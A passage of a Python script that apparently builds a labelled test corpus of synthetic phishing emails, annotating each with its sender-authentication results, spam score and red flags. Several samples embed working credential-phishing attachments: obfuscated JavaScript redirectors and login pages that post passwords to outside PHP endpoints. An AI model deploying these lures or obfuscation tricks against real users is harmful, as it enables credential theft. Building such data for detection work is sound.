        f'<tr><td style="padding:6px;border-bottom:1px solid #ddd">{s}</td><td style="padding:6px;border-bottom:1px solid #ddd">{f}</td>'
        f'<td style="padding:6px;border-bottom:1px solid #ddd"><a href="{gw}?m={i + 1}#{DAVE}">Release</a></td></tr>'
        for i, (s, f) in enumerate(held))
    html = notice(
        "Roundcube Webmail", "#2f7fc1", "You have 6 pending incoming messages",
        ["Dear dave,",
         "The following messages to <b>dave@oldmillradio.org</b> could not be delivered to your inbox and are held on "
         "the server because of a sync error:",
         f'<table width="100%" cellpadding="0" cellspacing="0" style="font-size:13px"><tr style="background:#eee">'
         f'<th align="left" style="padding:6px">Subject</th><th align="left" style="padding:6px">From</th><th></th></tr>{rows}</table>',
         "Held messages are deleted after 72 hours."],
        ("Release all messages to Inbox", f"https://cloudflare-ipfs.com/ipfs/bafybeih3kq7w2x4vzqkt5r2m6zdf3o7yq4lq2a5n6cplgm7e4dzv3xw2ka/roundcube.html#{DAVE}"),
        "oldmillradio.org &middot; Roundcube Webmail &middot; Mail Delivery System")
    P("b6-pending-messages-held-roundcube-ipfs",
      "Roundcube 'pending incoming messages' with invented held mail (realistic subjects); every 'Release' link is an IPFS gateway page (ipfs.io, cloudflare-ipfs.com) with the address in the #fragment; sent from a compromised plumbing-company cPanel account",
      rcpt=DAVE, when=when, frm=addr("oldmillradio.org Mail Delivery", "info@sunriseplumbing-az.com"),
      subject="Mail Delivery Failure: 6 incoming messages held (dave@oldmillradio.org)", body=html_only(html),
      mailfrom="info@sunriseplumbing-az.com", client=("cp-host-17.webzonehost.net", "192.254.233.17", "cp-host-17.webzonehost.net"),
      dkim=[("pass", "sunriseplumbing-az.com", "default")],
      spam=(3.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS,URI_IPFS_GATEWAY"),
      extra=["X-Mailer: Roundcube Webmail/1.4.11"])

    # 4 -------------------------------------------------------------------
    when = dt(2023, 1, 17, 9, 12, 4, 0)
    url = "https://cpanel-webmail-revalidate.pages.dev/?email=jan@brackenfold.co.uk&domain=brackenfold.co.uk"
    html = notice(
        "cPanel", "#ff6c2c", "Mailbox re-validation required",
        ["Dear jan@brackenfold.co.uk,",
         "As part of our annual server migration, all mailboxes on <b>brackenfold.co.uk</b> must be re-validated. "
         "Mailboxes that are not re-validated within 24 hours will be removed from the new server and "
         "stored mail will be lost.",
         "Re-validation takes less than one minute."],
        ("Re-validate Mailbox", url),
        "brackenfold.co.uk Support &middot; cPanel&reg; 110.0 (build 8)<br>You are receiving this because you are a registered "
        "mailbox user on brackenfold.co.uk.")
    P("b6-cpanel-revalidate-mailbox-pages-dev",
      "'brackenfold.co.uk Support' spoofs the recipient's own domain; signed and SPF-aligned only for the throwaway zvx-notify.com; 'annual migration' threat of lost mail; link to a pages.dev page carrying the address and domain",
      rcpt=JAN, when=when, frm=addr("brackenfold.co.uk Support", "support@brackenfold.co.uk"),
      subject="Action required: re-validate jan@brackenfold.co.uk before server migration", body=html_only(html),
      mailfrom="bounce@mailer.zvx-notify.com", client=("mta2.zvx-notify.com", "194.87.31.202", "mta2.zvx-notify.com"),
      dkim=[("pass", "zvx-notify.com", "mail")],
      spam=(4.1, "DKIM_SIGNED,DKIM_VALID,HEADER_FROM_DIFFERENT_DOMAINS,HTML_MESSAGE,MIME_HTML_ONLY,PDS_FROM_NAME_TO_DOMAIN,SPF_PASS"),
      to="jan@brackenfold.co.uk")

    # 5 -------------------------------------------------------------------
    when = dt(2022, 11, 2, 19, 48, 31, 1)
    g = fix(gmail("zimbra.adminteam2022@gmail.com", when, "p5"), SUE)
    url = "https://sites.google.com/view/zimbra-mail-upgrade-2022/home"
    plain = ("ZIMBRA COLLABORATION SUITE\n\nAttention: sue@wrenhollow.net\n\n"
             "We received a request to DEACTIVATE your e-mail account. This request will be processed within 24 hours.\n"
             "If you did not make this request, cancel it now:\n\n" + url + "\n\n"
             "Failure to cancel will result in permanent loss of your e-mail account and all stored messages.\n\n"
             "Zimbra Administrator\nwrenhollow.net Mail Service\n")
    html = (f'<div dir="ltr"><div><b>ZIMBRA COLLABORATION SUITE</b></div><div><br></div>'
            f'<div>Attention: <a href="mailto:sue@wrenhollow.net">sue@wrenhollow.net</a></div><div><br></div>'
            f'<div>We received a request to <b>DEACTIVATE</b> your e-mail account. This request will be processed within 24 hours.</div>'
            f'<div>If you did not make this request, <a href="{url}">CANCEL DEACTIVATION HERE</a></div><div><br></div>'
            f'<div>Failure to cancel will result in permanent loss of your e-mail account and all stored messages.</div><div><br></div>'
            f'<div>Zimbra Administrator<br>wrenhollow.net Mail Service</div></div>\n')
    P("b6-zimbra-deactivation-sites-google",
      "Zimbra 'deactivation request' sent from a free gmail.com account (all authentication passes for gmail.com) to a domain that does not run Zimbra; 'cancel deactivation' goes to a sites.google.com page",
      rcpt=SUE, when=when, frm=addr("ZIMBRA ADMINISTRATOR", "zimbra.adminteam2022@gmail.com"),
      subject="E-mail Deactivation Request - sue@wrenhollow.net", body=alt(plain, html, "gmail", "p5"),
      spam=(1.2, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,DKIM_VALID_EF,FREEMAIL_FROM,HTML_MESSAGE,SPF_HELO_NONE,SPF_PASS"),
      to="sue@wrenhollow.net", **g)

    # 6 -------------------------------------------------------------------
    when = dt(2024, 2, 27, 11, 5, 19, 0)
    url = ("https://pub-3f9c1a7e84b24d0f9a2e6c51d8b7f0aa.r2.dev/ssl/renew.html?domain=oldmillradio.org&u="
           "webmaster@oldmillradio.org")
    html = notice(
        "SSL Services", "#0b7a3e", "SSL certificate for oldmillradio.org expires in 48 hours",
        ["Hello webmaster,",
         "The SSL/TLS certificate securing <b>oldmillradio.org</b>, <b>www.oldmillradio.org</b> and "
         "<b>mail.oldmillradio.org</b> will expire on <b>29 February 2024</b>.",
         "After expiry visitors will see a &quot;Your connection is not private&quot; warning and mail clients will stop "
         "connecting to your server. Renewal is included in your hosting plan; please confirm the domain "
         "administrator's credentials to complete automatic renewal."],
        ("Renew Certificate Now", url),
        "oldmillradio.org SSL Services &middot; Certificate ID 7A3F-22E1-0B94 &middot; Issued by R3",
        after=["<small>Certificate serial: 04:1f:9c:6a:e2:33:7b:80:1d:c4:58:0e:a9:7f:12:63</small>"])
    P("b6-ssl-certificate-expiry-r2-dev",
      "fake 'SSL certificate expires' notice for the recipient's domain from a newly registered certrenew-portal.net that passes SPF, DKIM and DMARC for itself; asks for the admin's credentials on an r2.dev bucket page with domain and address in the URL",
      rcpt=WEBM, when=when, frm=addr("oldmillradio.org SSL Services", "ssl-notice@certrenew-portal.net"),
      subject="[Urgent] SSL certificate for oldmillradio.org expires in 48 hours", body=html_only(html),
      mailfrom="ssl-notice@certrenew-portal.net", client=("mail.certrenew-portal.net", "45.144.30.117", "mail.certrenew-portal.net"),
      dkim=[("pass", "certrenew-portal.net", "default")],
      spam=(0.9, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_PASS,SPF_PASS"))

    # 7: HTML attachment, atob redirector ---------------------------------
    when = dt(2023, 5, 9, 8, 22, 51, 1)
    target = "https://docviewer0523.blob.core.windows.net/$web/index.html"
    page = f"""<html><head><meta charset="utf-8"><title>Payment Advice</title></head>
<body style="font-family:Arial;background:#fff"><p>Loading document, please wait&hellip;</p>
<script>
var _0x3f=["{b64(target)}","{b64(INFO)}"];
var u=atob(_0x3f[0]);var e=atob(_0x3f[1]);
setTimeout(function(){{window.location.href=u+"#"+e;}},900);
</script></body></html>
"""
    plain = ("Good morning,\n\nPlease find attached payment advice for invoices settled today.\n"
             "Kindly confirm receipt and let us know if any amount is outstanding.\n\n"
             "Best regards,\n\nRuth Hallam\nAccounts Payable\nHartwell Freight Ltd\n")
    P("b6-payment-advice-html-atob",
      "compromised Microsoft 365 mailbox of a freight firm (SPF/DKIM/DMARC all pass) sends 'payment advice' to a club that has no dealings with it; the Payment_Advice.html attachment decodes an Azure blob URL with atob and redirects with the recipient's address in the #hash",
      rcpt=INFO, when=when, frm=addr("Ruth Hallam", "r.hallam@hartwellfreight.com"),
      subject="Payment Advice - Ref#PA230509-0117", to="undisclosed-recipients:;",
      body=mixed(text(plain), [attachment("text/html", "Payment_Advice_0509.html", page.encode())], "outlook", "p7"),
      mailfrom="r.hallam@hartwellfreight.com",
      client=("mail-db8eur05on2101.outbound.protection.outlook.com", "40.107.20.101", "EUR05-DB8-obe.outbound.protection.outlook.com"),
      dkim=[("pass", "hartwellfreight.com", "selector1")],
      spam=(2.0, "ARC_SIGNED,ARC_VALID,DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,SPF_HELO_PASS,SPF_PASS,T_OBFU_HTML_ATTACH"),
      extra=["X-MS-Has-Attach: yes", "X-MS-TNEF-Correlator:", "x-ms-exchange-senderadcheck: 1",
             "Content-Language: en-GB"])

    # 8: SHTML, String.fromCharCode builds the whole login page -----------
    when = dt(2023, 8, 22, 16, 40, 2, 0)
    page = login_page("Voice Message", "Microsoft", "#0067b8", DAVE,
                      "https://greenacre-farmshop.co.uk/wp-content/plugins/wsp/next.php",
                      "Sign in to listen to your voice message (00:47)")
    shtml = (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>\n<script>\n"
             f"var _c=[{js_chars(page)}];\ndocument.write(String.fromCharCode.apply(null,_c));\n"
             f"</script>\n</body></html>\n")
    plain = ("New voice message\n\nFrom: +44 1632 960 417\nReceived: Tuesday, August 22, 2023 4:39 PM\n"
             "Duration: 00:00:47\nTo: dave@oldmillradio.org\n\nThe message is attached. Open it in your browser to listen.\n")
    P("b6-voice-message-shtml-fromcharcode",
      "'voice message' claimed from the recipient's own domain by a Contabo VPS (SPF softfail, DMARC fail); the .shtml attachment rebuilds a Microsoft login page with String.fromCharCode and document.write, address pre-filled, posting the password to a compromised WordPress site",
      rcpt=DAVE, when=when, frm=addr("Voice Mail", "voicemail@oldmillradio.org"),
      subject="Voice Message Received: 00:47s from +44 1632 960417", spf="softfail",
      body=mixed(text(plain), [Leaf("application/octet-stream", shtml.encode(), "base64",
                                    '; name="Voice_Message_0822.shtml"', 'attachment; filename="Voice_Message_0822.shtml"')],
                 "php", "p8"),
      mailfrom="voicemail@oldmillradio.org", client=("vmi1187342.contaboserver.net", "161.97.144.210", "oldmillradio.org"),
      spam=(4.6, "HTML_ATTACHMENT,SPF_HELO_SOFTFAIL,SPF_SOFTFAIL,RDNS_DYNAMIC,T_SCC_BODY_TEXT_LINE"),
      extra=[PHPMAILER])

    # 9: HTM, unescape + document.write -----------------------------------
    when = dt(2022, 7, 11, 10, 31, 7, -4)
    page = login_page("eFax Document Viewer", "eFax&reg; Secure Document", "#c8102e", JAN,
                      "https://mobilelube-ok.com/css/fx/post.php",
                      "Verify your email account to view this 3-page fax")
    htm = ("<html><head><title>eFax</title></head><body>\n<script language=\"javascript\">\n"
           f"document.write(unescape('{pct_all(page)}'));\n</script>\n</body></html>\n")
    html = notice(
        "eFax", "#c8102e", "You have received a 3 page fax",
        ["<b>Fax Message [Caller-ID: 1-617-555-0184]</b>",
         "You have received a 3 page fax at Mon, 11 Jul 2022 10:30:52 -0400.",
         "* The reference number for this fax is atl2_did11-1657549852-6175550184-32.",
         "Please open the attachment to view your fax document."],
        None, "Thank you for using the eFax service!<br>j2 Global, Inc. and affiliates")
    P("b6-fax-received-htm-unescape",
      "eFax look-alike through Amazon SES (DKIM amazonses.com, no DMARC for efax-delivery.info); the .htm 'fax' is a login page hidden in one unescape() + document.write call, with the recipient's address pre-filled, posting to a PHP script",
      rcpt=JAN, when=when, frm=addr("eFax Messenger", "message@efax-delivery.info"),
      subject="eFax message from \"617-555-0184\" - 3 page(s), Caller-ID: 1-617-555-0184",
      body=mixed(html_only(html), [Leaf("text/html", htm.encode(), "base64", '; name="Fax_Received_0711_3pages.htm"',
                                         'attachment; filename="Fax_Received_0711_3pages.htm"')], "ses", "p9"),
      mailfrom="010001820f3e4b1a-7c1d9e2f-33aa-4b8c-9d5e-1f2a3b4c5d6e-000000@amazonses.com",
      client=("a8-41.smtp-out.amazonses.com", "54.240.8.41", "a8-41.smtp-out.amazonses.com"),
      dkim=[("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
      spam=(2.8, "DKIM_SIGNED,DKIM_VALID,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS,T_HTML_ATTACH"))

    # 10: SVG redirector --------------------------------------------------
    when = dt(2024, 10, 15, 9, 33, 48, 2)
    target = "https://sc4n-d0cview.pages.dev/x/"
    svg = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="820" height="560" viewBox="0 0 820 560">
<rect width="820" height="560" fill="#f4f5f7"/>
<text x="40" y="80" font-family="Arial" font-size="22" fill="#333">Xerox Scan Viewer</text>
<text x="40" y="120" font-family="Arial" font-size="15" fill="#666">Loading Scan_20241015_0931.pdf (2 pages)...</text>
<script type="text/javascript"><![CDATA[
var m="{b64(DAVE)}";var k=[{js_chars(target)}];var l="";
for(var i=0;i<k.length;i++){{l+=String.fromCharCode(k[i]);}}
window.location.href=l+"#"+m;
]]></script>
</svg>
"""
    plain = ("Please open the attached document. It was scanned and sent to you using a Xerox multifunction printer.\n\n"
             "Attachment File Type: SVG, Multi-Page\n\nMultifunction Printer Location: Main Office\n"
             "Device Name: XRX9C934E6F22A1\n\nFor more information on Xerox products and solutions, please visit http://www.xerox.com\n")
    P("b6-scan-svg-redirect",
      "fake Xerox scan-to-email 'from' scanner@ the recipient's own domain, sent by an unrelated South African cPanel mailbox (DMARC fail); the .svg 'scan' runs script that builds a pages.dev URL from char codes and redirects with the base64 address in the #hash",
      rcpt=DAVE, when=when, frm=addr("Scanner", "scanner@oldmillradio.org"),
      subject="Scanned image from MX-2640N [Scan_20241015_0931]",
      body=mixed(text(plain, encoding="7bit"), [attachment("image/svg+xml", "Scan_20241015_0931.svg", svg.encode())], "java", "p10"),
      mailfrom="scan@kwiktrades.co.za", client=("cpanel21.afrihost-web.co.za", "169.239.218.66", "cpanel21.afrihost-web.co.za"),
      dkim=[("pass", "kwiktrades.co.za", "default")],
      spam=(3.3, "DKIM_SIGNED,DKIM_VALID,HEADER_FROM_DIFFERENT_DOMAINS,SPF_HELO_NONE,SPF_PASS,T_SVG_ATTACH"))

    # 11: INV-0038.html meta refresh --------------------------------------
    when = dt(2025, 1, 21, 13, 4, 26, 0)
    page = (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>INV-0038</title>\n'
            f'<meta http-equiv="refresh" content="0; url=https://invoiceview0038.blob.core.windows.net/inv/INV-0038.html#{TREAS}">\n'
            f'</head><body><p>Opening invoice INV-0038&hellip;</p></body></html>\n')
    plain = ("Hi,\n\nHere's invoice INV-0038 for GBP 1,284.00.\n\nThe amount outstanding of GBP 1,284.00 is due on 28 Jan 2025.\n\n"
             "View your bill online from the attached file.\n\nIf you have any questions, please let us know.\n\n"
             "Thanks,\nFenwick Signs & Print\n")
    P("b6-inv-0038-html-meta-refresh",
      "Xero-style invoice from a newly registered look-alike supplier domain (auth passes for itself) the society never used; INV-0038.html only meta-refreshes to an Azure blob page with the treasurer's address in the #hash",
      rcpt=TREAS, when=when, frm=addr("Fenwick Signs & Print", "accounts@fenwicksignsprint.com"),
      subject="Invoice INV-0038 from Fenwick Signs & Print for Old Mill Amateur Radio Society",
      body=mixed(text(plain), [attachment("text/html", "INV-0038.html", page.encode())], "python", "p11"),
      mailfrom="accounts@fenwicksignsprint.com", client=("mail.fenwicksignsprint.com", "91.92.245.38", "mail.fenwicksignsprint.com"),
      dkim=[("pass", "fenwicksignsprint.com", "x")],
      spam=(1.6, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,SPF_HELO_NONE,SPF_PASS,T_HTML_ATTACH"))

    # 12: ZIP with HTML inside --------------------------------------------
    when = dt(2023, 11, 7, 7, 55, 13, 0)
    rev = "https://remit-portal-77b.hollandparkest.workers.dev/r/"[::-1]
    page = (f'<html><head><title>Remittance Advice</title></head><body>\n<script>\n'
            f'var r="{rev}";var a="{INFO}";\n'
            f'location.replace(r.split("").reverse().join("")+"?e="+btoa(a));\n</script>\n'
            f'<noscript>Enable JavaScript to view this document.</noscript></body></html>\n')
    z = files.zip_archive([("Remittance_Advice_071123.html", page.encode())])
    plain = ("Dear Supplier,\n\nPlease find attached our remittance advice for the BACS payment made on 07/11/2023.\n\n"
             "Payment amount: GBP 3,460.50\nPayment reference: HPE-BACS-071123\n\n"
             "Regards,\nAccounts Payable\nHolland Park Estates\n")
    P("b6-remittance-zip-html",
      "'remittance advice' to an organisation that is nobody's supplier, sent through a Mailgun subdomain (auth aligned for the sender's own domain); the ZIP holds an HTML file that reverses a workers.dev URL and redirects with the base64 address",
      rcpt=INFO, when=when, frm=addr("Accounts Payable", "ap@hollandparkestates.com"),
      subject="Remittance Advice - BACS Payment 07/11/2023",
      body=mixed(text(plain), [attachment("application/zip", "Remittance_Advice_071123.zip", z)], "python", "p12"),
      mailfrom="bounce+1a2b3c.49f-info=oldmillradio.org@mg.hollandparkestates.com",
      client=("m228-4.mailgun.net", "159.135.228.4", "m228-4.mailgun.net"),
      dkim=[("pass", "mg.hollandparkestates.com", "krs")],
      spam=(1.4, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,SPF_HELO_NONE,SPF_PASS,T_ZIP_ATTACH"),
      extra=["X-Mailgun-Sending-Ip: 159.135.228.4", "X-Mailgun-Sid: " + b64blob("p12sid", 45)])


def phishing_shares() -> None:
    # 13: genuine SharePoint share from a compromised stranger's tenant ---
    when = dt(2024, 4, 3, 15, 12, 9, -5)
    url = ("https://meridianlandsurveys-my.sharepoint.com/:o:/g/personal/k_oduya_meridianlandsurveys_com/"
           "EkX3pQ9vT2hGmY7dLr0bA1sBx4n8Wq2cZ5uVf6eJ3kHt9g?e=Ab12Cd")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Segoe UI',sans-serif">
<tr><td style="padding:24px 32px">
<p style="font-size:21px;color:#323130;margin:0 0 20px 0">Karen Oduya shared a file with you</p>
<p style="font-size:14px;color:#323130">Kindly review the attached project proposal and revert at your earliest convenience.</p>
<table cellpadding="0" cellspacing="0" style="border:1px solid #edebe9;margin:16px 0"><tr>
<td style="padding:14px 16px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/one.png" width="32" height="32" alt=""></td>
<td style="padding:14px 16px 14px 0;font-size:14px;color:#323130">Meridian - Project Proposal 2024</td></tr></table>
<table cellpadding="0" cellspacing="0"><tr><td bgcolor="#0f6cbd" style="padding:9px 20px">
<a href="{url}" style="color:#ffffff;text-decoration:none;font-size:14px">Open</a></td></tr></table>
<p style="font-size:12px;color:#605e5c;margin-top:28px">This link only works for the direct recipients of this message.</p>
<p style="font-size:12px;color:#605e5c"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/brand-icons/product/png/onedrive_32x1.png" width="16" alt=""> Microsoft
 &middot; <a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#605e5c">Privacy Statement</a></p>
</td></tr></table></body></html>
"""
    P("b6-sharepoint-share-stranger-tenant-onenote",
      "a real SharePoint Online sharing mail (SPF/DKIM/DMARC pass for sharepointonline.com) from an unknown US surveying firm whose mailbox was compromised; the 'proposal' is a OneNote notebook (:o:) on a stranger's tenant, the usual hosting for a second-stage phishing link; generic 'kindly review and revert'",
      rcpt=HLT, when=when, frm=addr("Karen Oduya", "no-reply@sharepointonline.com"),
      reply_to=addr("Karen Oduya", "k.oduya@meridianlandsurveys.com"),
      subject="Karen Oduya shared \"Meridian - Project Proposal 2024\" with you", body=html_only(html),
      mailfrom="no-reply@sharepointonline.com",
      client=("mail-bn8nam12on2093.outbound.protection.outlook.com", "40.107.237.93", "NAM12-BN8-obe.outbound.protection.outlook.com"),
      dkim=[("pass", "sharepointonline.com", "selector1")], to=HLT,
      extra=["X-MS-Exchange-Organization-SharePoint-Sharing: External"])

    # 14: OneDrive look-alike from a free outlook.com account, forms.office.com
    when = dt(2023, 3, 29, 7, 48, 36, -7)
    o = outlook_consumer("mvaughn1958@outlook.com", when, "p14")
    url = "https://forms.office.com/Pages/ResponsePage.aspx?id=Xa3TqL8m0Ei6sBvR2yKp1nW4cD7fH9jK0lM3oP6qR8sT1uV4wX7yZ0aB2cD5eF8gURTQ2NFhCUjdRMDlJVk5QUzNBMi4u"
    html = notice(
        "OneDrive", "#0078d4", "You've received 2 files via OneDrive",
        ["dave.harker@harbourlightstrust.org,",
         "2 documents were shared with you for review:",
         "&#128196; <b>HLT - Q1 Funding Report.xlsx</b><br>&#128196; <b>Trustee Payment Schedule 2023.pdf</b>",
         "Sign in with your organisation account to open them."],
        ("Open in OneDrive", url),
        "Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052")
    P("b6-onedrive-lookalike-forms-office",
      "'OneDrive' display name on a free outlook.com account (auth passes for outlook.com, not Microsoft's sharing service); funding and trustee-payment bait; 'Open in OneDrive' is a forms.office.com form that collects the password",
      rcpt=HLT, when=when, frm=addr("OneDrive", "mvaughn1958@outlook.com"),
      subject="Trustee documents shared with you - Harbour Lights Trust", body=html_only(html),
      scl=1, extra=["X-MS-Exchange-Organization-SenderRep: new"], **o)

    # 15: DocuSign look-alike, storage.googleapis.com ---------------------
    when = dt(2022, 12, 6, 18, 2, 44, 0)
    url = "https://storage.googleapis.com/dcsgn-envelope-8834/index.html#" + b64(DAVE)
    html = notice(
        "DocuSign", "#ffbe00", "Please DocuSign: Completed_Agreement_Dec2022.pdf",
        ['<table width="100%" bgcolor="#1e4ca1" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:26px;color:#fff;font-size:16px">'
         '&#9993; Your document has been completed<br><br>'
         f'<a href="{url}" style="background:#ffc820;color:#333;padding:10px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a>'
         '</td></tr></table>',
         "All parties have completed <b>Completed_Agreement_Dec2022.pdf</b>. Please review and sign.",
         "<b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others."],
        None,
        "About DocuSign: Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br>"
        "This message was sent to you by DocuSign Electronic Signature Service.",
        logo='<span style="font-size:22px;font-weight:bold;color:#000">Docu<span style="color:#ffbe00">Sign</span></span>')
    P("b6-docusign-lookalike-storage-googleapis",
      "DocuSign layout from a compromised bakery domain on a VPS (no DKIM, no DocuSign infrastructure); 'REVIEW DOCUMENT' points to storage.googleapis.com with the base64 address in the #fragment",
      rcpt=DAVE, when=when, frm=addr("DocuSign via Docs", "docs@tillyscottagebakery.com"),
      subject="Completed: Please DocuSign Completed_Agreement_Dec2022.pdf", body=html_only(html),
      mailfrom="docs@tillyscottagebakery.com", client=("srv3.tillyscottagebakery.com", "185.225.74.9", "srv3.tillyscottagebakery.com"),
      spam=(3.6, "HTML_MESSAGE,MIME_HTML_ONLY,RDNS_NONE,SPF_HELO_NONE,SPF_PASS,T_REMOTE_IMAGE,URI_GOOGLE_STORAGE"))

    # 16: Adobe Express page -----------------------------------------------
    when = dt(2024, 6, 18, 10, 27, 3, 1)
    url = "https://new.express.adobe.com/webpage/Jk2fR8sQpLm1x"
    html = notice(
        "Adobe Acrobat", "#eb1000", "McKinley Roofing has shared an invoice with you",
        ["Hello,", "A secure PDF document has been shared with you via Adobe Document Cloud.",
         "<b>File:</b> INV_MKR_2024-0618.pdf<br><b>Size:</b> 284 KB<br><b>Message:</b> Please see attached invoice for the works completed, payment due on receipt.",
         ], ("View Document", url),
        "Adobe Document Cloud &middot; &copy; 2024 Adobe. All rights reserved. Adobe, 345 Park Avenue, San Jose, CA 95110-2704")
    P("b6-adobe-express-shared-invoice",
      "'Adobe Acrobat' share of an invoice for roofing works the bookkeeper never commissioned, sent from a compromised roofing company mailbox; the document link is an Adobe Express web page (new.express.adobe.com) used as a stepping stone",
      rcpt=JAN, when=when, frm=addr("Adobe Acrobat", "office@mckinleyroofing.net"),
      subject="McKinley Roofing shared \"INV_MKR_2024-0618.pdf\" with you", body=html_only(html),
      mailfrom="office@mckinleyroofing.net", client=("smtp.mckinleyroofing.net", "64.91.250.133", "smtp.mckinleyroofing.net"),
      dkim=[("pass", "mckinleyroofing.net", "default")],
      spam=(2.2, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS"))

    # 17: Dropbox look-alike, Canva design --------------------------------
    when = dt(2023, 7, 12, 21, 15, 58, 2)
    url = "https://www.canva.com/design/DAFo3kP1x2Q/pQ7rT3vW9yZ1aB4cD6eF8g/view?utm_content=DAFo3kP1x2Q&utm_campaign=designshare&utm_medium=link"
    html = notice(
        "Dropbox", "#0061fe", "Files shared with you",
        ["Hi dave,", "<b>Tuscany Gardens Resort</b> shared 4 files with you on Dropbox:",
         "Booking_Confirmation.pdf<br>Group_Rates_2023.xlsx<br>Deposit_Invoice.pdf<br>Event_Contract_Signed.pdf",
         "These files will be available for 7 days."],
        ("View files", url), "&copy; 2023 Dropbox &middot; 1800 Owens St, San Francisco, CA 94158")
    P("b6-dropbox-lookalike-canva-design",
      "Dropbox look-alike sent from a hacked Italian resort mailbox (auth passes for that domain, nothing from Dropbox); 'View files' is a Canva design page that carries the next phishing link",
      rcpt=DAVE, when=when, frm=addr("Dropbox", "reservations@tuscanygardensresort.com"),
      subject="Tuscany Gardens Resort shared \"Booking Confirmation\" with you", body=html_only(html),
      mailfrom="reservations@tuscanygardensresort.com", client=("out.aruba-mailhost.it", "62.149.158.91", "out.aruba-mailhost.it"),
      dkim=[("pass", "tuscanygardensresort.com", "a1")],
      spam=(1.8, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS"))

    # 18: WeTransfer look-alike, webflow.io -------------------------------
    when = dt(2023, 2, 14, 12, 40, 21, 0)
    url = "https://wetransfer-files-7d2a.webflow.io/download?u=" + INFO
    html = notice(
        "WeTransfer", "#409fff", "Kate Morrow sent you some files",
        ["3 files, 48.2 MB in total &middot; Will be deleted on 21 February 2023",
         "<i>&quot;Hi, here are the signed documents and photos as discussed. Let me know once you have them.&quot;</i>",
         "Signed_Documents.pdf<br>IMG_2231.jpg<br>IMG_2232.jpg"],
        ("Get your files", url),
        "To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.<br>About WeTransfer &middot; Help &middot; Legal")
    P("b6-wetransfer-lookalike-webflow",
      "WeTransfer template from a throwaway wetransfer-mailer.com domain (its own SPF/DKIM pass, no DMARC, nothing from wetransfer.com); unknown sender 'Kate Morrow'; 'Get your files' goes to a webflow.io site with the address in the query",
      rcpt=INFO, when=when, frm=addr("WeTransfer", "noreply@wetransfer-mailer.com"),
      subject="Kate Morrow sent you Signed_Documents.pdf and 2 other files via WeTransfer", body=html_only(html),
      mailfrom="noreply@wetransfer-mailer.com", client=("mx1.wetransfer-mailer.com", "80.66.88.201", "mx1.wetransfer-mailer.com"),
      dkim=[("pass", "wetransfer-mailer.com", "s2023")],
      spam=(2.9, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS,TVD_SPACE_RATIO"))

    # 19: (3) new voicemail, replit.app ----------------------------------
    when = dt(2024, 8, 6, 5, 51, 30, -4)
    url = "https://vm-inbox-login.replit.app/?id=" + DAVE
    html = notice(
        "Voice Mail Center", "#5b2c83", "You have (3) new voicemail",
        ["<b>Mailbox:</b> dave@oldmillradio.org", f"<b>Date:</b> {format_datetime(when)[:16]}",
         '<table cellpadding="4" style="font-size:13px"><tr><td>&#9654; +1 (415) 555-0196</td><td>0:38</td></tr>'
         '<tr><td>&#9654; Unknown caller</td><td>1:02</td></tr><tr><td>&#9654; +44 20 7946 0321</td><td>0:21</td></tr></table>',
         "Messages are kept for 3 days."],
        ("&#9654; Play messages", url), "Unified Messaging &middot; oldmillradio.org")
    P("b6-voicemail-three-new-replit",
      "'(3) new voicemail' to a mailbox with no phone system behind it, sent from a throwaway notify domain; 'Play messages' goes to a replit.app login page with the address in the URL",
      rcpt=DAVE, when=when, frm=addr("oldmillradio.org Voice Mail", "vm-notify@unifiedmsg-alerts.com"),
      subject="You have (3) new voicemail - Tue, 6 Aug 2024", body=html_only(html),
      mailfrom="bounce-8f21@unifiedmsg-alerts.com", client=("smtp-out-4.unifiedmsg-alerts.com", "193.143.1.72", "smtp-out-4.unifiedmsg-alerts.com"),
      dkim=[("pass", "unifiedmsg-alerts.com", "k1")],
      spam=(2.6, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,PDS_FROM_NAME_TO_DOMAIN,SPF_PASS"))


def phishing_invoices() -> None:
    # 20: PO PDF with one link, S3 -----------------------------------------
    when = dt(2022, 5, 24, 9, 4, 11, 4)
    url = "https://po-doc-view.s3.us-east-2.amazonaws.com/PO4500187211/index.html"
    pdf = files.pdf(["PURCHASE ORDER  PO#4500187211", "", "Al Khaleej Trading & General Contracting LLC",
                     "This document is protected. Click REVIEW DOCUMENT below to view the order", "in your browser."],
                    link=(url, (56, 560, 280, 600)), title="PO#4500187211")
    plain = ("Dear Sir/Madam,\n\nGood day.\nKindly find attached our new purchase order PO#4500187211 and quote your best price "
